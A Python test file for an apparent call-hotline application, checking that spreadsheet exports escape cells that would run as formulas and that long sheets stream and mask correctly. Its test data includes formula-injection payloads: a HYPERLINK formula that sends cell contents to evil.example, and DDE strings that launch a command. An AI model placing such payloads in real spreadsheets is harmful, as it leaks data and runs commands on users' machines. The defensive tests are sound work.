"""Exports never run formulas (issue 13): every text cell that a spreadsheet would evaluate
(=, +, -, @, tab, CR first) leaves Hotline escaped, and every workbook leaves through
core.sheets.to_bytes, the one place that escapes."""

from __future__ import annotations

import io
import re
from pathlib import Path

import openpyxl
import pytest
from openpyxl import Workbook

from hotline.core import sheets

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "+86 138 0013 8000",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_text_that_would_start_a_formula_is_escaped(text: str) -> None:
    assert sheets.escape(text) == "'" + text


@pytest.mark.parametrize("plain", ["燃气泄漏", "13800138000", "a=b", "", "王-1"])
def test_plain_text_and_numbers_are_left_alone(plain: str) -> None:
    assert sheets.escape(plain) == plain
    assert sheets.escape(-5) == -5 and sheets.escape(3.5) == 3.5


def test_a_workbook_written_any_way_leaves_with_no_formula_in_it() -> None:
    wb = Workbook()
    ws = wb.active
    ws["A1"] = ATTACKS[0]  # written directly, not through add_sheet
    sheets.add_sheet(wb, "明细", ["来电号码", "摘要"], [[a, a] for a in ATTACKS])
    body = sheets.to_bytes(wb)

    book = openpyxl.load_workbook(io.BytesIO(body))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value]
    escaped = [c.value for c in cells if c.value not in ("来电号码", "摘要")]
    assert len(escaped) == 1 + 2 * len(ATTACKS)
    assert all(c.data_type == "s" for c in cells)
    assert all(v.startswith("'") for v in escaped)
    with __import__("zipfile").ZipFile(io.BytesIO(body)) as z:
        xml = "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets"))
    assert "<f>" not in xml and "<f " not in xml


def test_only_core_sheets_saves_a_workbook() -> None:
    root = Path(__file__).resolve().parents[2] / "hotline"
    savers = [
        str(p.relative_to(root))
        for p in root.rglob("*.py")
        if re.search(r"\bwb\.save\(|Workbook\(\)\.save|\.save\(out\)", p.read_text())
    ]
    assert savers == ["core/sheets.py"]


def test_a_long_sheet_streams_from_an_iterator_and_reads_back_the_same() -> None:
    """3,000 rows from a generator (never a list): the workbook reads back row for row,
    with the bold frozen header, widths measured on the first rows, the masking `text`
    applied to every text cell and the formula escaped after it."""
    made: list[int] = []

    def lines():  # type: ignore[no-untyped-def]
        for i in range(3000):
            made.append(i)
            yield [i, f"用户{i}", "=1+1" if i == 7 else "13800138000"]

    wb = sheets.workbook()
    n = sheets.add_sheet(
        wb, "明细", ["序号", "姓名", "号码"], lines(), text=lambda s: s.replace("0013", "****")
    )
    assert n == 3000 and len(made) == 3000
    book = openpyxl.load_workbook(io.BytesIO(sheets.to_bytes(wb)))
    ws = book["明细"]
    values = [[c.value for c in row] for row in ws.iter_rows()]
    assert values[0] == ["序号", "姓名", "号码"] and len(values) == 3001
    assert values[1] == [0, "用户0", "138****8000"]
    assert values[8] == [7, "用户7", "'=1+1"]
    assert ws["A1"].font.bold and ws.freeze_panes == "A2"
    assert ws.column_dimensions["B"].width == sheets.width("用户999") + 4  # first 1,000 rows
